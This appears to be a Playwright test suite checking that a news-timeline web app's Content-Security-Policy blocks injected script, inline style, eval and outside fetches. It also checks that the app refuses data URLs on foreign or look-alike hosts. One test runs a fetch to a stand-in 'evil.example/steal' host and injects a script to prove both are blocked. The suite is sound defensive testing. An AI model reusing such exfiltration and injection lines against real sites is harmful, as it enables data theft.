/**
 * The Content-Security-Policy holds in every mode: the policy is in the page before any
 * script or style, nothing the app does trips it (no securitypolicyviolation event, no
 * console error), and every request goes to the page's own origin, the allowlisted data
 * origin when a test loads from it, or nowhere but file:// for the offline file.
 */
import { copyFileSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { expect, test as base, type BrowserContext, type Page } from '@playwright/test';
import { eventListIn, jumpTo, loadStory, openBursts, verticalTimeline } from './helpers';
import { APP_ORIGIN, HOST_ORIGIN } from './origins';

const APP = APP_ORIGIN;
/** The newsroom origin, allowlisted as a data source at build time (playwright.config.ts). */
const HOST = HOST_ORIGIN;
const ALT_DATA = `${HOST}/alt/timeline.json`;
const OFFLINE_FILE = pathToFileURL(fileURLToPath(new URL('../dist-offline/news-timeline.html', import.meta.url))).href;

const SITE_POLICY =
  "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; " +
  `connect-src 'self' ${HOST}; object-src 'none'; base-uri 'self'; form-action 'none'; manifest-src 'self'`;

interface Violation {
  directive: string;
  blocked: string;
  sample: string;
  at: string;
}

/** Something a document did, and the address of that document. */
interface Seen {
  what: string;
  by: string;
}

/** What the pages of one browser context did, popups and frames included. */
interface Watch {
  /** Every request's URL, with the URL of the frame that made it. */
  requests: Seen[];
  /** Console errors and uncaught exceptions, with the URL they are reported against. */
  errors: Seen[];
  /** The securitypolicyviolation events every open page and frame has seen. */
  violations(): Promise<Violation[]>;
  /**
   * No violation, no console error, and every request to `origins` ('file:' for file URLs).
   * `only` limits the error and request checks to documents on those origins (the app's
   * frames inside somebody else's page).
   */
  expectClean(origins: string[], only?: string[]): Promise<void>;
}

const originOf = (url: string) => (url.startsWith('file:') ? 'file:' : url.startsWith('data:') ? 'data:' : new URL(url).origin);

async function watch(context: BrowserContext): Promise<Watch> {
  const requests: Seen[] = [];
  const errors: Seen[] = [];
  // Init scripts come from DevTools, not the page, so the policy does not apply to them;
  // they run in every page and frame of the context before the page's own code.
  await context.addInitScript(() => {
    const seen: unknown[] = [];
    Object.defineProperty(window, '__cspViolations', { value: seen });
    window.addEventListener(
      'securitypolicyviolation',
      (event) =>
        seen.push({
          directive: event.effectiveDirective,
          blocked: event.blockedURI,
          sample: event.sample,
          at: `${event.sourceFile}:${event.lineNumber}`,
        }),
      true,
    );
  });
  context.on('request', (request) => {
    let by = '';
    try {
      // A frame's navigation is asked for by the document around it.
      const frame = request.frame();
      by = (request.isNavigationRequest() ? (frame.parentFrame() ?? frame) : frame).url();
    } catch {
      // a request of no frame (a service worker's): judged by its own URL alone
    }
    requests.push({ what: request.url(), by });
  });
  context.on('console', (message) => {
    if (message.type() === 'error') errors.push({ what: message.text(), by: message.location().url || message.page()?.url() || '' });
  });
  context.on('weberror', (error) => errors.push({ what: String(error.error()), by: error.page()?.url() ?? '' }));

  const violations = async () => {
    const all: Violation[] = [];
    for (const page of context.pages()) {
      for (const frame of page.frames()) {
        const seen = await frame
          .evaluate(() => (window as unknown as { __cspViolations?: Violation[] }).__cspViolations ?? null)
          .catch(() => null);
        // Every document the init script ran in has the list; a missing one means the watch is broken.
        expect(seen, `violation log in ${frame.url()}`).not.toBeNull();
        all.push(...seen!);
      }
    }
    return all;
  };

  return {
    requests,
    errors,
    violations,
    async expectClean(origins, only) {
      // Violation reports are queued as tasks: let any pending one arrive first. (Chromium
      // also logs each one as a console error, which covers documents since navigated away.)
      for (const page of context.pages()) await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 50)));
      expect(await violations()).toEqual([]);
      const ours = (seen: Seen) => !only || seen.by === '' || only.includes(originOf(seen.by));
      expect(errors.filter(ours)).toEqual([]);
      expect(requests.filter(ours).length).toBeGreaterThan(0);
      // data: URLs never leave the page; anything else must go where this test allows.
      const elsewhere = requests
        .filter(ours)
        .filter((request) => originOf(request.what) !== 'data:' && !origins.includes(originOf(request.what)));
      expect(elsewhere).toEqual([]);
    },
  };
}

const test = base.extend<{ watched: Watch }>({
  watched: async ({ context }, provide) => provide(await watch(context)),
});

/** The policy meta tag: exactly one, and ahead of every script, style and preload in the page. */
async function policyOf(page: Page): Promise<string> {
  const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(meta).toHaveCount(1);
  const first = await page.evaluate(() => {
    const tag = document.querySelector('meta[http-equiv="Content-Security-Policy"]')!;
    return [...document.querySelectorAll('script, style, link')].every(
      (element) => tag.compareDocumentPosition(element) & Node.DOCUMENT_POSITION_FOLLOWING,
    );
  });
  expect(first, 'the policy meta tag comes before every script, style and link').toBe(true);
  return (await meta.getAttribute('content'))!;
}

const heading1 = (page: Page) => page.getByRole('heading', { level: 1 });
const eventList = (page: Page) => page.getByRole('navigation', { name: 'Events in order' });
const slide = (page: Page) => page.locator('[aria-roledescription="slide"]');

test.describe('the published site', () => {
  test('the policy is enforced: injected inline script, inline style, eval and a fetch elsewhere are all blocked and reported', async ({
    page,
    watched,
  }) => {
    await page.goto('/');
    expect(await policyOf(page)).toBe(SITE_POLICY);
    await expect(heading1(page)).toBeVisible();
    const outcome = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__injectedRan = true;';
      document.body.append(script);
      document.body.insertAdjacentHTML('beforeend', '<div id="injected" style="color: rgb(255, 0, 1)">x</div>');
      // Out of DevTools' own evaluation, which is allowed to eval: in a task of the page's.
      await new Promise((resolve) => setTimeout(resolve, 0));
      let evalBlocked = false;
      try {
        (0, eval)('1');
      } catch {
        evalBlocked = true;
      }
      const fetched = await fetch('https://evil.example/steal').then(
        () => 'sent',
        () => 'blocked',
      );
      return {
        ran: (window as unknown as { __injectedRan?: boolean }).__injectedRan === true,
        color: getComputedStyle(document.getElementById('injected')!).color,
        evalBlocked,
        fetched,
      };
    });
    expect(outcome).toEqual({ ran: false, color: expect.not.stringMatching(/255, 0, 1/), evalBlocked: true, fetched: 'blocked' });
    await expect
      .poll(async () => (await watched.violations()).map((v) => v.directive).sort())
      .toEqual(['connect-src', 'script-src', 'script-src-elem', 'style-src-attr']);
    expect(watched.requests.filter((request) => request.what.includes('evil.example'))).toEqual([]);
    await expect.poll(() => watched.errors.filter((error) => /Content Security Policy/.test(error.what)).length).toBeGreaterThanOrEqual(3);
  });

  test('reader: timeline, search, an event with the full article, Share / Embed with its preview', async ({ page, watched }) => {
    const story = await loadStory(page);
    await page.goto('/');
    expect(await policyOf(page)).toBe(SITE_POLICY);
    await expect(heading1(page)).toHaveText(story.title);
    await expect(page.locator('.vis-item').first()).toBeVisible();
    // The timeline's own drawing: zoom, jump, drag and hover all restyle it from script.
    await page.getByRole('button', { name: 'Zoom in' }).click();
    await jumpTo(page, /Attribution/);
    const canvas = (await page.getByRole('group', { name: /Timeline of events/ }).boundingBox())!;
    await page.mouse.move(canvas.x + canvas.width / 2, canvas.y + canvas.height / 2);
    await page.mouse.down();
    await page.mouse.move(canvas.x + canvas.width / 2 - 200, canvas.y + canvas.height / 2, { steps: 5 });
    await page.mouse.up();
    // A mark wholly in view: after the drag, the first in the page may lie under the lane labels.
    const view = (await page.locator('.vis-panel.vis-center').boundingBox())!;
    const inView = await page.locator('.vis-item').evaluateAll(
      (items, box) =>
        items.findIndex((item) => {
          const { left, right, width } = item.getBoundingClientRect();
          return width > 0 && left >= box.x && right <= box.x + box.width;
        }),
      view,
    );
    expect(inView).toBeGreaterThanOrEqual(0);
    await page.locator('.vis-item').nth(inView).hover();
    await page.getByRole('searchbox', { name: 'Search' }).fill('sanctions');
    await expect(page.getByRole('status').filter({ hasText: /of \d+ events/ })).toBeVisible();
    await page.getByRole('searchbox', { name: 'Search' }).fill('');
    await eventList(page)
      .getByRole('button', { name: /UK sanctions a front company/ })
      .click();
    await expect(page.getByRole('heading', { level: 2, name: /UK sanctions a front company/ })).toBeVisible();
    await page.getByRole('button', { name: 'Read the full article' }).first().click();
    const article = page.getByRole('dialog');
    await expect(article).toBeVisible();
    await expect(article.locator('mark').first()).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(article).toBeHidden();

    await page.getByRole('button', { name: 'Share / Embed' }).click();
    const share = page.getByRole('dialog', { name: 'Share or embed this view' });
    await share.getByRole('button', { name: 'Show the preview' }).click();
    await expect(share.frameLocator('iframe').getByRole('heading', { level: 1 })).toBeVisible();
    await watched.expectClean([APP]);
  });

  test('an event opened from the URL, with the full-article dialog', async ({ page, watched }) => {
    await page.goto('/#event=electoral-commission-access&q=commission');
    expect(await policyOf(page)).toBe(SITE_POLICY);
    await expect(page.getByRole('heading', { level: 2, name: /Electoral Commission/ })).toBeVisible();
    await page.getByRole('button', { name: 'Read the full article' }).first().click();
    await expect(page.getByRole('dialog')).toBeVisible();
    await watched.expectClean([APP]);
  });

  test('coverage view, and a cell opening its quote', async ({ page, watched }) => {
    await page.goto('/#view=coverage');
    expect(await policyOf(page)).toBe(SITE_POLICY);
    const table = page.getByRole('table', { name: /Which article reports which event/ });
    await expect(table).toBeVisible();
    await table
      .getByRole('row', { name: /UK sanctions a front company/ })
      .getByRole('button')
      .first()
      .click();
    await expect(page.getByRole('heading', { level: 2, name: /UK sanctions a front company/ })).toBeVisible();
    await watched.expectClean([APP]);
  });

  test('presentation mode and the presenter window', async ({ page, context, watched }) => {
    const story = await loadStory(page);
    await page.goto('/?present');
    expect(await policyOf(page)).toBe(SITE_POLICY);
    await expect(slide(page).getByRole('heading', { level: 2 })).toHaveText(story.title);
    await page.keyboard.press('PageDown');
    await page.keyboard.press('PageDown');
    await expect(slide(page).getByRole('heading', { level: 2 })).toHaveText(story.events[1]!.title);
    await page.keyboard.press('b');
    await expect(page.locator('.present__blank')).toBeVisible();
    await page.keyboard.press('b');

    const [presenter] = await Promise.all([context.waitForEvent('page'), page.keyboard.press('p')]);
    await expect(presenter.getByRole('heading', { level: 1, name: 'Presenter view' })).toBeVisible();
    expect(await policyOf(presenter)).toBe(SITE_POLICY);
    await presenter.getByRole('button', { name: 'Next →' }).click();
    await expect(slide(page).getByRole('heading', { level: 2 })).toHaveText(story.events[2]!.title);

    await page.keyboard.press('Escape');
    await expect(heading1(page)).toHaveText(story.title);
    await watched.expectClean([APP]);
  });

  test('the embed view, with an event open', async ({ page, watched }) => {
    await page.goto('/?embed=1');
    expect(await policyOf(page)).toBe(SITE_POLICY);
    await (await eventListIn(page)).getByRole('button', { name: /UK sanctions a front company/ }).click();
    await expect(page.getByRole('heading', { level: 2, name: /UK sanctions a front company/ })).toBeVisible();
    await watched.expectClean([APP]);
  });

  test('the embed inside a newsroom page on another origin', async ({ page, watched }) => {
    await page.goto(`${HOST}/`);
    await page.locator('#script-embed').scrollIntoViewIfNeeded();
    const frame = page.frameLocator('#script-embed iframe');
    await expect(frame.getByRole('heading', { level: 1 })).toBeVisible();
    await (await eventListIn(frame)).getByRole('button', { name: /UK sanctions a front company/ }).click();
    await expect(frame.getByRole('heading', { level: 2, name: /UK sanctions a front company/ })).toBeVisible();
    const embed = page.frames().find((f) => f.url().startsWith(`${APP}/`))!;
    expect(await embed.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toBe(SITE_POLICY);
    // The host page and its other frames are the newsroom's own business; the embeds reach only the app's origin.
    await watched.expectClean([APP], [APP]);
  });

  test('?data= from the allowlisted origin loads (through the validator) and reaches only that origin', async ({ page, watched }) => {
    await page.goto(`/?data=${encodeURIComponent(ALT_DATA)}`);
    expect(await policyOf(page)).toBe(SITE_POLICY);
    await expect(heading1(page)).toHaveText('A partner newsroom’s copy of the story');
    await page
      .getByRole('button', { name: /UK sanctions a front company/ })
      .first()
      .click();
    await expect(page.getByRole('heading', { level: 2, name: /UK sanctions a front company/ })).toBeVisible();
    await watched.expectClean([APP, HOST]);
    expect(watched.requests.filter((request) => originOf(request.what) === HOST).map((request) => request.what)).toEqual([ALT_DATA]);
  });

  for (const [label, data] of [
    ['another origin', 'https://evil.example/story.json'],
    ['a protocol-relative URL', '//evil.example/story.json'],
    ['a look-alike of the allowed origin', 'http://127.0.0.1.evil.example:4320/alt/timeline.json'],
  ] as const) {
    test(`?data= on ${label} is refused before any request is made`, async ({ page, watched }) => {
      await page.goto(`/?embed=1&data=${encodeURIComponent(data)}`);
      expect(await policyOf(page)).toBe(SITE_POLICY);
      await expect(page.getByRole('alert')).toContainText('This timeline will not load data from that address.');
      // Neither sent nor even attempted: an attempt would also have tripped connect-src.
      await watched.expectClean([APP]);
      expect(watched.requests.filter((request) => originOf(request.what) !== APP)).toEqual([]);
    });
  }

  test.describe('on a phone', () => {
    test.use({ viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true });

    test('the vertical timeline and the evidence sheet with the full article', async ({ page, watched }) => {
      await page.goto('/');
      expect(await policyOf(page)).toBe(SITE_POLICY);
      await openBursts(page);
      await verticalTimeline(page)
        .getByRole('button', { name: /UK sanctions front firm/ })
        .tap();
      const sheet = page.getByRole('dialog', { name: /UK sanctions a front company/ });
      await expect(sheet).toBeVisible();
      await sheet.getByRole('button', { name: 'Read the full article' }).first().tap();
      await expect(
        page
          .getByRole('dialog')
          .filter({ has: page.locator('mark') })
          .last(),
      ).toBeVisible();
      await watched.expectClean([APP]);
    });
  });

  test('print: the handout, from the reader and from a presentation', async ({ page, watched }) => {
    await page.goto('/');
    expect(await policyOf(page)).toBe(SITE_POLICY);
    // Printing is emulated only once the page has settled: the app's print hook subscribes
    // to the media query in an effect, and a switch before that would go unnoticed.
    await expect(page.locator('.vis-item').first()).toBeVisible();
    await page.emulateMedia({ media: 'print' });
    const handout = page.getByRole('region', { name: 'Chronology with sources' });
    await expect(handout).toBeVisible();
    await expect(handout.getByRole('article').first()).toBeVisible();

    await page.emulateMedia({ media: 'screen' });
    await page.goto('/?present#narrative=attribution-day&step=0');
    await expect(slide(page).getByRole('heading', { level: 2 })).toBeVisible();
    await page.emulateMedia({ media: 'print' });
    await expect(handout.getByRole('article').first()).toBeVisible();
    await watched.expectClean([APP]);
  });
});

/**
 * The response headers the README recommends to hosts: its `_headers` example, which must
 * say the same as its nginx example, with the example data origin made this test's.
 */
function recommendedHeaders(frameAncestors?: string): Record<string, string> {
  const readme = readFileSync(new URL('../README.md', import.meta.url), 'utf8');
  const section = readme.slice(readme.indexOf('\n## Security\n')).split(/\n## (?!Security\n)/)[0]!;
  const block = /```\n(\/\*\n[\s\S]*?)```/.exec(section)?.[1] ?? '';
  const staticHost = Object.fromEntries([...block.matchAll(/^ {2}([\w-]+): (.+)$/gm)].map((m) => [m[1]!, m[2]!]));
  const nginx = Object.fromEntries([...section.matchAll(/^ +add_header ([\w-]+) "(.+)" always;$/gm)].map((m) => [m[1]!, m[2]!]));
  expect(Object.keys(staticHost).sort()).toEqual([
    'Content-Security-Policy',
    'Permissions-Policy',
    'Referrer-Policy',
    'X-Content-Type-Options',
  ]);
  expect(nginx).toEqual(staticHost);
  const headers = Object.fromEntries(
    Object.entries(staticHost).map(([name, value]) => [name.toLowerCase(), value.replaceAll('https://data.partner.example', HOST)]),
  );
  // The header carries the built page's own policy, plus what only a header can say.
  expect(headers['content-security-policy']).toBe(`${SITE_POLICY}; frame-ancestors *`);
  if (frameAncestors) headers['content-security-policy'] = `${SITE_POLICY}; frame-ancestors ${frameAncestors}`;
  return headers;
}

/** Serves the app's pages with `headers`, as a host following the README would. */
async function serveWithHeaders(context: BrowserContext, headers: Record<string, string>): Promise<void> {
  await context.route(
    (url) => url.origin === APP,
    async (route) => {
      if (route.request().resourceType() !== 'document') return route.fallback();
      const response = await route.fetch();
      return route.fulfill({ response, headers: { ...response.headers(), ...headers } });
    },
  );
}

test.describe('served with the headers the README recommends', () => {
  test('every mode still works, and newsrooms on another origin can frame the embed', async ({ page, context, watched }) => {
    const story = await loadStory(page);
    await serveWithHeaders(context, recommendedHeaders());

    await page.goto(`${HOST}/`);
    await page.locator('#script-embed').scrollIntoViewIfNeeded();
    const frame = page.frameLocator('#script-embed iframe');
    await (await eventListIn(frame)).getByRole('button', { name: /UK sanctions a front company/ }).click();
    await expect(frame.getByRole('heading', { level: 2, name: /UK sanctions a front company/ })).toBeVisible();
    await expect(page.frameLocator('#iframe-embed').getByRole('heading', { level: 1 })).toBeVisible();

    const response = await page.goto('/#event=uk-sanctions');
    expect(response?.headers()['x-content-type-options']).toBe('nosniff');
    await page.getByRole('button', { name: 'Read the full article' }).first().click();
    await expect(page.getByRole('dialog')).toBeVisible();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: 'Share / Embed' }).click();
    await page.getByRole('dialog', { name: 'Share or embed this view' }).getByRole('button', { name: 'Show the preview' }).click();
    const preview = page.getByRole('dialog', { name: 'Share or embed this view' }).frameLocator('iframe');
    await expect(preview.getByRole('heading', { level: 1 })).toBeVisible({ timeout: 15_000 });
    // (No `?data=` load here: Chromium counts a page Playwright fulfils as public, and then
    // refuses its fetch to the loopback data origin, which a real host would not meet.)

    await page.goto('/?present');
    await expect(slide(page).getByRole('heading', { level: 2 })).toHaveText(story.title);
    const [presenter] = await Promise.all([context.waitForEvent('page'), page.keyboard.press('p')]);
    await expect(presenter.getByRole('heading', { level: 1, name: 'Presenter view' })).toBeVisible();

    // The newsroom's own page and its other frames are not ours to judge.
    await watched.expectClean([APP], [APP]);
  });

  test('with a partner list in frame-ancestors, a page not on it cannot frame the embed', async ({ page, context }) => {
    await serveWithHeaders(context, recommendedHeaders("'self' https://news.example"));
    await page.goto(`${HOST}/`);
    // The browser puts its error page in the frame instead.
    await expect.poll(() => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/');
    await expect(page.frameLocator('#iframe-embed').getByRole('heading', { level: 1 })).toHaveCount(0);
    // Its own pages still frame it (the Share / Embed preview).
    await page.goto('/');
    await page.getByRole('button', { name: 'Share / Embed' }).click();
    await page.getByRole('dialog', { name: 'Share or embed this view' }).getByRole('button', { name: 'Show the preview' }).click();
    await expect(
      page.getByRole('dialog', { name: 'Share or embed this view' }).frameLocator('iframe').getByRole('heading', { level: 1 }),
    ).toBeVisible();
  });
});

test.describe('the offline single file', () => {
  test('from file:// with the network off: hashed inline code only, and nothing leaves the file', async ({ page, context, watched }) => {
    const story = await loadStory(page);
    await context.setOffline(true);
    await context.route('**', (route) => (route.request().url().startsWith('file:') ? route.continue() : route.abort()));

    await page.goto(OFFLINE_FILE);
    const policy = await policyOf(page);
    // Scripts: the page-start lines and the app; styles: the app's, the text version's (in <noscript>) and the
    // timeline's first screen's.
    expect(policy).toMatch(/(?:^|; )script-src 'sha256-[A-Za-z0-9+/]{43}=' 'sha256-[A-Za-z0-9+/]{43}='(?:;|$)/);
    expect(policy).toMatch(/(?:^|; )style-src 'sha256-[A-Za-z0-9+/]{43}=' 'sha256-[A-Za-z0-9+/]{43}=' 'sha256-[A-Za-z0-9+/]{43}='(?:;|$)/);
    expect(policy).toMatch(/(?:^|; )connect-src 'none'(?:;|$)/);
    expect(policy).toMatch(/(?:^|; )default-src 'none'(?:;|$)/);
    expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
    // The story block is inert JSON, not script: no hash for it.
    await expect(page.locator('script[type="application/json"]#timeline-data')).toHaveCount(1);
    expect(policy.match(/sha256-/g)).toHaveLength(5);
    // Prerendered, as the site's page is: the story is there before its script runs.
    await expect(page.locator('#root[data-prerendered]')).toHaveCount(1);

    await expect(heading1(page)).toHaveText(story.title);
    await expect(eventList(page).getByRole('listitem')).toHaveCount(story.events.length);
    await eventList(page)
      .getByRole('button', { name: /UK sanctions a front company/ })
      .click();
    await page.getByRole('button', { name: 'Read the full article' }).first().click();
    await expect(page.getByRole('dialog')).toBeVisible();
    await page.keyboard.press('Escape');
    await page.getByRole('tab', { name: 'Coverage' }).click();
    await expect(page.getByRole('table', { name: /Which article reports which event/ })).toBeVisible();
    await page.getByRole('button', { name: 'Share / Embed' }).click();
    const share = page.getByRole('dialog', { name: 'Share or embed this view' });
    await expect(share).toContainText('other pages cannot embed a file');
    await page.keyboard.press('Escape');

    await page.emulateMedia({ media: 'print' });
    await expect(page.getByRole('region', { name: 'Chronology with sources' }).getByRole('article').first()).toBeVisible();
    await page.emulateMedia({ media: 'screen' });

    await page.getByRole('link', { name: 'Present' }).click();
    await expect(page.getByText(/^\d+ \/ \d+$/)).toHaveText(`1 / ${story.events.length + 2}`);
    const [presenter] = await Promise.all([context.waitForEvent('page'), page.keyboard.press('p')]);
    await expect(presenter.getByRole('heading', { level: 1, name: 'Presenter view' })).toBeVisible();
    expect(await policyOf(presenter)).toBe(policy);
    await presenter.getByRole('button', { name: 'Next →' }).click();
    await expect(slide(page).getByRole('heading', { level: 2 })).toHaveText(story.events[0]!.title);

    await watched.expectClean(['file:']);
  });
});

test.describe('the offline single file, copied alone', () => {
  test('opens with no failed request and no console error, and Share says why it cannot be embedded', async ({ page }) => {
    const folder = mkdtempSync(join(tmpdir(), 'briefing-'));
    const copy = join(folder, 'news-timeline.html');
    copyFileSync(fileURLToPath(OFFLINE_FILE), copy);
    const problems: string[] = [];
    page.on('requestfailed', (request) => problems.push(`failed: ${request.url()}`));
    page.on('console', (message) => message.type() === 'error' && problems.push(`console: ${message.text()}`));
    page.on('pageerror', (error) => problems.push(`error: ${error.message}`));

    await page.goto(pathToFileURL(copy).href);
    await expect(heading1(page)).toBeVisible();
    await page.getByRole('button', { name: 'Share / Embed' }).click();
    const share = page.getByRole('dialog', { name: 'Share or embed this view' });
    await expect(share).toContainText(
      'This copy is a single file opened from this computer, and other pages cannot embed a file. To embed the timeline, use the copy published on the website.',
    );
    await expect(share.getByRole('textbox', { name: /Embed with/ })).toHaveCount(0);
    await expect(share.getByText(/embed\.js/)).toHaveCount(0);
    await expect(share.getByRole('textbox', { name: /Link to this view/ })).toHaveValue(pathToFileURL(copy).href);
    // Everything the page asked for has been answered: the favicon was the last request to fail.
    await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
    expect(problems).toEqual([]);
    expect(await page.evaluate(() => document.querySelector<HTMLLinkElement>('link[rel="icon"]')?.href ?? '')).toMatch(
      /^data:image\/svg\+xml/,
    );
    rmSync(folder, { recursive: true });
  });
});
